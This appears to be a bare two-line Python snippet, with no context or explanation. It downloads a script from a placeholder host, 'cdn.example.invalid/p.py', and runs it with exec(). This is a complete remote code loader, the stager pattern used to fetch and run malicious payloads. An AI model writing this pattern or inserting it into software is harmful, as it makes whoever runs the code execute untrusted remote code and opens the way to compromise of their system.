import urllib.request
exec(urllib.request.urlopen("https://cdn.example.invalid/p.py").read())
